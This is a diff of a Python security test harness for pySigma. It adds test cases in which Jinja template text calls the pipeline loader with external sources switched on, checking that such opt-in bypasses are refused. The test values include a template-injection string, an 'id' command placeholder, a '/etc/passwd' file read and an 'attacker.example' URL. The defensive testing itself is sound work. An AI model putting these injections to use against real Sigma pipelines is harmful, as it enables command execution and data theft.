@@ -41,7 +41,7 @@ TARGETS = [
     "sigma.processing.postprocessing:QueryPostprocessingItem.from_dict",
 ]
 BOUNDS = {
-    "documents": "10 item kinds x 5 injection variants x 4 truthy values x caller opt-in on/off",
+    "documents": "12 item kinds (incl. templates whose text calls the pipeline loader with the opt-in set) x 5 injection variants x 4 truthy values x caller opt-in on/off",
     "environment": "gate functions: every ASCII string of length <= 4 (quick) / <= 6 (thorough) as value of PYSIGMA_ALLOW_EXTERNAL_SOURCES / PYSIGMA_ALLOW_VARS_EXECUTION (symbolic) or unset; whole-pipeline runs: 12 representative values incl. unset",
     "paths": "vars file and allowed base built from 1..3 components out of {a, ab, b, ..}; realpath is identity or maps the vars path to an outside target (symlink)",
     "outside": "real file system / sockets / processes (replaced by stubs); pipeline resolver loading from directories",
@@ -182,7 +182,9 @@ class Patched:
 
 
 TRUTHY = [True, 1, "yes", [1]]
-KINDS = ["file", "http", "command", "nest-file", "nest-nest-command", "post-template", "fin-template", "nested-fin-1", "nested-fin-2", "nested-fin-3"]
+KINDS = ["file", "http", "command", "nest-file", "nest-nest-command", "post-template", "fin-template", "nested-fin-1", "nested-fin-2", "nested-fin-3", "tpl-call-post", "tpl-call-fin"]
+# the last two: a template (no vars file) whose TEXT calls the pipeline loader with the opt-in set on its own behalf
+TPL_CALL = "{{ pipeline.from_dict({'transformations': [{'type': '%s', %s}]}, allow_external_sources=True).items[0].transformation.placeholder_replacements(none) | join(',') }}"
 EXT_ENV = "PYSIGMA_ALLOW_EXTERNAL_SOURCES"
 VARS_ENV = "PYSIGMA_ALLOW_VARS_EXECUTION"
 
@@ -224,6 +226,14 @@ def build(kind, inject, truthy):
             mid.update({"allow_external_sources": tv})
         d["transformations"] = [{"type": "nest", "items": [mid]}]
         depth, templ = 2, False
+    elif kind in ("tpl-call-post", "tpl-call-fin"):
+        inner = [("command_placeholders", "'cmd': 'id'"), ("file_placeholders", "'path': '/etc/passwd'"), ("http_placeholders", "'url': 'http://attacker.example/x'"), ("command_placeholders", "'cmd': 'id'")][truthy]
+        text = TPL_CALL % inner
+        if kind == "tpl-call-post":
+            d["postprocessing"] = [{"type": "template", "template": "{{ query }} " + text}]
+        else:
+            d["finalizers"] = [{"type": "template", "template": "{{ queries | join(' ') }} " + text}]
+        depth, templ = 0, False
     elif kind == "post-template":
         it = {"type": "template", "template": "{{ query }}", "vars": "/evil/vars.py"}
         if inject in (1, 3):
@@ -295,15 +305,20 @@ def injection_case(kd, inj, tr, cl, envval) -> bool:
             p = ProcessingPipeline.from_dict(copy.deepcopy(doc), allow_template_vars=cl, allow_external_sources=cl)
             flags = flags_of(p)
             b = TextQueryTestBackend(p)
-            b.convert(SigmaCollection.from_dicts([copy.deepcopy(RULE)]))
+            rule = copy.deepcopy(RULE)
+            if kd.startswith("tpl-call"):
+                rule["detection"]["sel"] = {"f": "v"}  # nothing to expand: the query reaches post-processing / finalisation
+            b.convert(SigmaCollection.from_dicts([rule]))
         except SigmaSecurityError:
             err = "security"
         except SigmaError:
             err = "sigma"
         reached = len(EVENTS) > 0
     ENVVAL.clear()
-    must = env_ok or (cl and depth == 0)
+    must = (env_ok or (cl and depth == 0)) and not kd.startswith("tpl-call")
     may = env_ok or cl
+    if kd.startswith("tpl-call") and inj != 0:
+        return True  # no injection variants for these kinds
     if inj == 4:
         # unknown top-level keys must be refused; nothing may run
         return err == "sigma" and not reached
